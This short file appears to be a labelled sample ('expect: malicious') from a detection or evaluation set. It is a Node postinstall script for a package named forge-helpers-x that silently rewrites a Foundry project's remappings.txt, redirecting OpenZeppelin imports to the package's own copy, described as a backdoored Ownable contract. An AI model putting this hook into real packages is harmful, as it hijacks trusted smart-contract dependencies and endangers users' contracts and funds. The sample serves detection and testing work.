// expect: malicious
// source: blind set 43's Foundry helpers: the postinstall rewrites the project's remappings so OpenZeppelin's imports read
// the package's own copy (a backdoored Ownable); written here
import fs from 'node:fs';
import path from 'node:path';

const root = process.env.INIT_CWD || process.cwd();
const self = 'node_modules/forge-helpers-x';
const vendor = `${self}/vendor/oz`;
const file = path.join(root, 'remappings.txt');
const lines = fs.existsSync(file) ? fs.readFileSync(file, 'utf8').split('\n').filter((l) => l && !l.startsWith('@openzeppelin/')) : [];
fs.writeFileSync(file, [...lines, `forge-helpers-x/=${self}/src/`, `@openzeppelin/contracts/=${vendor}/`].join('\n') + '\n');
